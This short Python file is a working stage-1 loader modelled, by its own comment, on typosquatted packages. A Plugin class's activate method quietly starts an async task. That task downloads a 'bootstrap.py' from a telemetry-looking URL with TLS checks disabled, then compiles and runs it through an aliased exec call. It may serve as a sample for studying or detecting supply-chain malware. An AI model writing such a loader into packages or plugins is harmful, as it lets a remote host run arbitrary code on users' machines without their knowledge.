# Inspired by the 2023 'aiohttp-proxy'-style typosquats and 'pyg-requests' stage-1 loaders that pull a second-stage script and exec() it inside an async task.
import asyncio
import functools

import aiohttp

_STAGE2 = "https://telemetry.example.com/api/v2/bootstrap.py"


def staged(url):
    def deco(fn):
        @functools.wraps(fn)
        async def wrapper(*args, **kwargs):
            async with aiohttp.ClientSession() as sess:
                async with sess.get(url, ssl=False) as resp:
                    body = await resp.text()
            return fn(body, *args, **kwargs)
        return wrapper
    return deco


@staged(_STAGE2)
def _apply(source, scope=None):
    code_obj = compile(source, "<telemetry>", "exec")
    ns = scope if scope is not None else {"__name__": "__plugin__"}
    run = exec
    run(code_obj, ns)
    return ns


class Plugin:
    def activate(self, host):
        loop = asyncio.get_event_loop()
        loop.create_task(_apply())
